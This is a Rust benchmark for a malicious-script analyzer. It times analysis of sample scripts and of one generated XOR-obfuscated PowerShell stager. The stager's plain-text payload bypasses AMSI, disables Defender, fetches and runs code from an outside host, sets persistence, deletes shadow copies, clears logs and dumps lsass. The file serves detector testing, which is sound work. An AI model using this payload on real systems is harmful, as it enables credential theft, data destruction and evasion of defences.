//! Analysis time over the sample set, and for one 5 KB obfuscated script.
//! `cargo bench -p vigil-scripts` (a plain binary timed with `std::time`).

use std::time::{Duration, Instant};

use vigil_scripts::Analyzer;

fn sample_inputs() -> Vec<(String, String)> {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/samples");
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    let mut paths: Vec<_> = entries.flatten().map(|e| e.path()).collect();
    paths.sort();
    for path in paths {
        if path.extension().is_none_or(|x| x != "txt") {
            continue;
        }
        let Ok(text) = std::fs::read_to_string(&path) else {
            continue;
        };
        for section in text.split("\n=== ").skip(1) {
            let name = section.lines().next().unwrap_or("").trim().to_string();
            let Some(body) = section.split("\ninput:\n").nth(1) else {
                continue;
            };
            let input: Vec<&str> = body
                .lines()
                .take_while(|l| {
                    ![
                        "decoded:",
                        "indicators:",
                        "techniques:",
                        "layers:",
                        "warnings:",
                        "absent:",
                        "risk:",
                        "benign:",
                        "language:",
                    ]
                    .iter()
                    .any(|k| l.starts_with(k))
                })
                .collect();
            out.push((name, input.join("\n")));
        }
    }
    out
}

fn median(mut v: Vec<Duration>) -> Duration {
    v.sort();
    v.get(v.len() / 2).copied().unwrap_or_default()
}

/// A script an attacker's kit would emit: a stager split into shuffled pieces put back by
/// `-f`, its text XOR-ed byte by byte and rebuilt in a `ForEach-Object`, then run.
fn obfuscated_5k() -> String {
    let payload = "$ErrorActionPreference = 'SilentlyContinue'\n\
        [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n\
        Set-MpPreference -DisableRealtimeMonitoring $true\n\
        $wc = New-Object Net.WebClient\n\
        $wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)')\n\
        $p = $wc.DownloadString('https://cdn.update-check.top/s2.ps1')\n\
        New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' -Value 'powershell -w hidden -c iex(gc C:\\Users\\Public\\u.ps1)' -Force\n\
        schtasks /create /tn 'OneDrive Sync' /tr 'powershell -w hidden -f C:\\Users\\Public\\u.ps1' /sc onlogon\n\
        whoami /all; net user /domain; systeminfo; nltest /domain_trusts; ipconfig /all\n\
        $targets = @('FS01','FS02','SQL01')\n\
        foreach ($t in $targets) { Invoke-Command -ComputerName $t -ScriptBlock { vssadmin delete shadows /all /quiet } }\n\
        wmic /node:10.0.0.15 process call create 'cmd.exe /c C:\\Users\\Public\\u.exe'\n\
        $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('Start-Process C:\\Users\\Public\\u.exe'))\n\
        Start-Process powershell -ArgumentList '-nop','-w','hidden','-enc',$enc\n\
        wevtutil cl Security; wevtutil cl System\n\
        rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\d.bin full\n\
        iex $p";
    let key = 0xa5;
    let codes: Vec<String> = payload.bytes().map(|b| (b ^ key).to_string()).collect();
    let mut script = format!(
        "$k = 0x{key:x}\n$d = @({})\n$s = -join ($d | % {{ [char]($_ -bxor $k) }})\n",
        codes.join(",")
    );
    script.push_str("& ('{1}{0}' -f 'ex','i') $s\n");
    script
}

fn main() {
    let analyzer = Analyzer::new();
    let samples = sample_inputs();
    let rounds = 15;
    let mut per_sample = Vec::new();
    for (_, input) in &samples {
        let times: Vec<Duration> = (0..rounds)
            .map(|_| {
                let t = Instant::now();
                std::hint::black_box(analyzer.analyze(input));
                t.elapsed()
            })
            .collect();
        per_sample.push(median(times));
    }
    let slowest = per_sample
        .iter()
        .zip(&samples)
        .max_by_key(|(d, _)| **d)
        .map(|(d, (n, _))| format!("{n} ({d:.2?})"))
        .unwrap_or_default();
    println!(
        "samples: {} scripts, median analysis {:.2?}, slowest {slowest}",
        samples.len(),
        median(per_sample)
    );

    let script = obfuscated_5k();
    let first = analyzer.analyze(&script);
    let times: Vec<Duration> = (0..50)
        .map(|_| {
            let t = Instant::now();
            std::hint::black_box(analyzer.analyze(&script));
            t.elapsed()
        })
        .collect();
    println!(
        "obfuscated script of {} bytes ({} layers, {} behaviours, risk {:?}): median {:.2?}",
        script.len(),
        first.layers.len(),
        first.behaviours.len(),
        first.verdict.risk,
        median(times)
    );
}
